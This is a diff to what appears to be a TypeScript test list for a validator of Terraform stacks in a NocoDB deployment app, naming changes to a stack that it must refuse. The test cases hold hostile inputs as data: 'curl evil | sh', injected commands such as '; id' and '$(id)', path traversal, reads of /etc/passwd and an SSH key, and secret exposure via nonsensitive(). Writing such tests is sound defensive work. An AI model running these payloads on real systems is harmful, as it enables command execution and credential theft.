@@ -9,55 +9,59 @@ const command = (edit: (command: string) => string) => (json: Stack) => {
   exec.command = edit(exec.command);
 };
 
-const look = (edit: (command: string) => string) => (json: Stack) => {
-  const program = json.data.external!.host_observed!.program as string[];
+const probe = (edit: (command: string) => string) => (json: Stack) => {
+  const program = json.data.external!.host_probe!.program as string[];
   program[2] = edit(program[2]!);
 };
 
-const leads = "is not as in the trusted stack: what decides where state and connection lead is merged first";
-const programs = "null_resource.nocodb_site: runs something else than host scripts over the trusted SSH command";
-const probe = "data.external.host_observed: runs something else than the probe";
+const elsewhere = "differs from the trusted stack: a change of state or connection must be merged first";
+const programs = "null_resource.nocodb_site: runs something other than host programs over the trusted SSH command";
+const notTheProbe = "data.external.host_probe: runs something other than the probe";
 
-/** What may not be in the JSON of a stack: in words, the change that brings it in, and what is told then. */
+/** What may not be in the JSON of a stack: in words, the change that brings it in, and the reason for refusing it. */
 export const refused: readonly [string, (json: Stack) => void, string][] = [
   [
     "another resource type",
     (json) => Object.assign(json.resource, { local_file: { x: {} } }),
-    "resource.local_file: is no resource type of the list",
+    "resource.local_file: is not a resource type of this app",
   ],
   [
     "another data source",
     (json) => Object.assign(json.data, { http: { x: {} } }),
-    "data.http: is no data source of the list",
+    "data.http: is not a data source of this app",
   ],
   [
     "a second program at plan time",
     (json) => Object.assign(json.data.external!, { x: { program: ["sh", "-c", "id"] } }),
-    "data.external.x: runs something else than the probe",
+    "data.external.x: runs something other than the probe",
   ],
-  ["another provider", (json) => Object.assign(json.provider, { local: [{}] }), `provider: ${leads}`],
+  ["another provider", (json) => Object.assign(json.provider, { local: [{}] }), `provider: ${elsewhere}`],
   [
     "a provider from elsewhere",
     (json) => Object.assign(json.terraform.required_providers.null!, { source: "evil/null" }),
-    `terraform: ${leads}`,
+    `terraform: ${elsewhere}`,
   ],
-  ["another backend", (json) => Object.assign(json.terraform.backend, { http: {} }), `terraform: ${leads}`],
+  ["another backend", (json) => Object.assign(json.terraform.backend, { http: {} }), `terraform: ${elsewhere}`],
   [
     "another host",
     (json) => Object.assign(json.provider.docker![0]!, { host: "ssh://me@evil:22" }),
-    `provider: ${leads}`,
+    `provider: ${elsewhere}`,
   ],
   [
     "a module",
     (json) => Object.assign(json, { module: { x: { source: "evil" } } }),
-    "module: is no section of a stack",
+    "module: is not a section of a stack of this app",
   ],
-  ["an import", (json) => Object.assign(json, { import: [{}] }), "import: is no section of a stack"],
+  ["an import", (json) => Object.assign(json, { import: [{}] }), "import: is not a section of a stack of this app"],
   ["another command", command(() => "curl evil | sh"), programs],
   ["a command behind the first", command((text) => `${text}; id`), programs],
   ["a command on a line of its own", command((text) => `${text}\nid`), programs],
-  ["a command within the first", command((text) => text.replace("common.sh", "common.sh $(id)")), programs],
-  ["a script from elsewhere", command((text) => text.replace("common.sh", "../../../x.sh")), programs],
+  [
+    "a command within the first",
+    command((text) => text.replace("caddy-site/apply", "caddy-site/apply $(id)")),
+    programs,
+  ],
+  ["a program from elsewhere", command((text) => text.replace("caddy-site/apply", "../../../x")), programs],
   ["another program in the place of ssh", command((text) => text.replace("-- ssh", "-- /tmp/ssh")), programs],
   [
     "an option that starts a program",
@@ -65,8 +69,12 @@ export const refused: readonly [string, (json: Stack) => void, string][] = [
     programs,
   ],
   ["another command on the host", command((text) => text.replace("sudo -n sh -s", "id")), programs],
-  ["an expression in a command", command((text) => text.replace("common.sh", '${"common.sh"}')), programs],
-  ["an escaped expression behind which one stands", command((text) => `${text} $$\${"$"}{x}`), programs],
+  [
+    "an expression in a command",
+    command((text) => text.replace("caddy-site/apply", '${"caddy-site/apply"}')),
+    programs,
+  ],
+  ["an expression behind an escaped one", command((text) => `${text} $$\${"$"}{x}`), programs],
   ["another interpreter", (json) => Object.assign(run(json)["local-exec"], { interpreter: ["evil"] }), programs],
   ["another folder", (json) => Object.assign(run(json)["local-exec"], { working_dir: "/" }), programs],
   [
@@ -86,21 +94,25 @@ export const refused: readonly [string, (json: Stack) => void, string][] = [
   ],
   [
     "another probe",
-    (json) => Object.assign(json.data.external!.host_observed!, { program: ["sh", "-c", "id"] }),
-    probe,
+    (json) => Object.assign(json.data.external!.host_probe!, { program: ["sh", "-c", "id"] }),
+    notTheProbe,
   ],
-  ["a command behind the probe", look((text) => `${text} | tee /tmp/x`), probe],
-  ["an assignment in front of the probe", look((text) => `PATH=/tmp ${text}`), probe],
-  ["a folder for the probe", (json) => Object.assign(json.data.external!.host_observed!, { working_dir: "/" }), probe],
+  ["a command behind the probe", probe((text) => `${text} | tee /tmp/x`), notTheProbe],
+  ["an assignment in front of the probe", probe((text) => `PATH=/tmp ${text}`), notTheProbe],
+  [
+    "a folder for the probe",
+    (json) => Object.assign(json.data.external!.host_probe!, { working_dir: "/" }),
+    notTheProbe,
+  ],
   [
     "a file that it reads",
     (json) => Object.assign(json.output, { x: { value: '${file("/tmp/nocodb-ssh/id")}' } }),
-    "output.x.value: reads a file that is no host script",
+    "output.x.value: reads a file that is not a host program",
   ],
   [
     "a file under another name of the function",
     (json) => Object.assign(json.output, { x: { value: '${core::file("/etc/passwd")}' } }),
-    "output.x.value: calls core::file(), which is no function of the list",
+    "output.x.value: calls core::file(), which this app does not use",
   ],
   [
     "a comment that hides what is called",
@@ -110,47 +122,62 @@ export const refused: readonly [string, (json: Stack) => void, string][] = [
   [
     "a template from a file",
     (json) => Object.assign(json.locals, { x: ['${templatefile("/x", {})}'] }),
-    "locals.x.0: calls templatefile(), which is no function of the list",
+    "locals.x.0: calls templatefile(), which this app does not use",
   ],
   [
     "a secret shown",
     (json) => Object.assign(json.output, { x: { value: "${nonsensitive(var.nocodb_jwt_secret)}" } }),
-    "output.x.value: calls nonsensitive(), which is no function of the list",
+    "output.x.value: calls nonsensitive(), which this app does not use",
   ],
   [
     "a file in a key",
     (json) => Object.assign(json.locals, { x: { '${file("/tmp/nocodb-ssh/id")}': 1 } }),
-    "locals.x: reads a file that is no host script",
+    "locals.x: reads a file that is not a host program",
   ],
   [
-    "a file below what is a comment elsewhere",
+    "a file in a key that is a comment in other places",
     (json) => Object.assign(json.locals, { x: { "//": '${file("/tmp/nocodb-ssh/id")}' } }),
-    "locals.x.//: reads a file that is no host script",
+    "locals.x.//: reads a file that is not a host program",
   ],
   [
-    "a program on the host in the place of the look",
-    look((text) => text.replace("observe.sh --", "write-file.sh --")),
-    probe,
+    "another program on the host in the place of the probe",
+    probe((text) => text.replace("remote-host/probe --", "host-file/apply --")),
+    notTheProbe,
   ],
   [
-    "a program on the host in front of the look",
-    look((text) => text.replace("observe.sh --", "restore-backup.sh observe.sh --")),
-    probe,
+    "another program on the host in front of the probe",
+    probe((text) => text.replace("remote-host/probe --", "backup/restore remote-host/probe --")),
+    notTheProbe,
+  ],
+  [
+    "a probe that is run without its checks",
+    probe((text) => text.replace("run-probe.sh", "run-remote.sh")),
+    notTheProbe,
+  ],
+  [
+    "the probe as a step that changes the host",
+    command((text) => text.replace("run-remote.sh", "run-probe.sh")),
+    programs,
+  ],
+  [
+    "another host for one of its commands",
+    command((text) => text.replace("docker.example.com", "evil.example.com")),
+    programs,
   ],
   [
     "a list in the place of a resource",
     (json) => Object.assign(json.resource.null_resource!, { x: [{ provisioner: [] }] }),
-    "resource.null_resource.x: is no object",
+    "resource.null_resource.x: is not an object",
   ],
   [
     "a list in the place of resources",
     (json) => Object.assign(json.resource, { null_resource: [json.resource.null_resource] }),
-    "resource.null_resource: is no object",
+    "resource.null_resource: is not an object",
   ],
   [
-    "files of the worker in a container",
+    "files of the agent in a container",
     (json) => Object.assign(json.resource.docker_container!.nocodb_container!, { upload: [{}] }),
-    "docker_container.nocodb_container.upload: would take files of this machine along",
+    "docker_container.nocodb_container.upload: would send files of this machine to the host",
   ],
   ...Object.entries<(json: Stack) => void>({
     "resource.null_resource.x.count": (json) =>
@@ -168,11 +195,11 @@ export const refused: readonly [string, (json: Stack) => void, string][] = [
   }).map(([place, change]): [string, (json: Stack) => void, string] => [
     `a secret in ${place}`,
     change,
-    `${place}: mentions a secret where it could be seen`,
+    `${place}: refers to a secret where it could be seen`,
   ]),
   [
     "an expression behind a percent sign, which becomes a quote and a command",
-    look((text) => text.replace("INPUT_", `INPUT_x='%\${"\\u0027; id; \\u0027"}' INPUT_`)),
-    probe,
+    probe((text) => text.replace("INPUT_", `INPUT_x='%\${"\\u0027; id; \\u0027"}' INPUT_`)),
+    notTheProbe,
   ],
 ];
